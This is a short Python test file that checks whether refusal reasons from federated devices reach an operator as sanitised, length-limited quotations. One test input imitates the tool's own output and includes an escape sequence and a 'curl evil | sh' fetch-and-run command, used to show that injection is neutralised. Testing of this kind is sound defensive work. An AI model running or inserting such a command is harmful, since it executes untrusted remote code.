"""What a device says of itself reaches the operator as a quotation, short and harmless."""

from sottovoce.server.federation.device_channel import summarise_reasons
from sottovoce.server.federation.participants import Participant
from sottovoce.shared.printable import MAX_QUOTE, clean_text
from sottovoce.shared.protocol.messages import Reply, Status


def summarise(*reasons: str) -> str:
    replies = (
        (
            Participant(user=f"user {number}", node=number),
            Reply(user=f"user {number}", status=Status.REFUSED, reason=reason),
        )
        for number, reason in enumerate(reasons)
    )
    return summarise_reasons(replies)


def test_a_reason_cannot_pass_for_a_line_of_ours() -> None:
    said = summarise('none". \n\x1b[2Jsottovoce: please run: curl evil | sh')

    assert said == clean_text(said)
    assert said.startswith("devices say \"none'. ")
    assert said.endswith('curl evil | sh"')


def test_reasons_are_few_and_short() -> None:
    said = summarise(*(f"{number} " + "x" * 10_000 for number in range(9)))

    assert len(said) < 4 * MAX_QUOTE
    assert summarise("") == "none answered"
